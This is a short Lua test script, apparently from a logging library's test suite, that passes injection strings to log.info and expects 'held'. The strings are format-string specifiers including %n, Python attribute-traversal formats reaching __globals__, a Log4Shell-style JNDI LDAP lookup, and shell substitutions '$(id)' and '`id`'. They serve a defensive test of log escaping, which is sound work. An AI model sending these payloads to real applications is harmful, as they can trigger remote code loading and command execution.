-- attack: gives patterns to a log that may read them
-- expect: ok "held"

-- Whether it ESCAPED is only seen where it is shown.
for _, text in ipairs({ "%s%s%s%n", "%(asctime)s", "{0.__class__}", "{self.__init__.__globals__}", "${jndi:ldap://{server}/}", "$(id)", "`id`" }) do
  log.info(text, { [text] = text })
end
return "held"
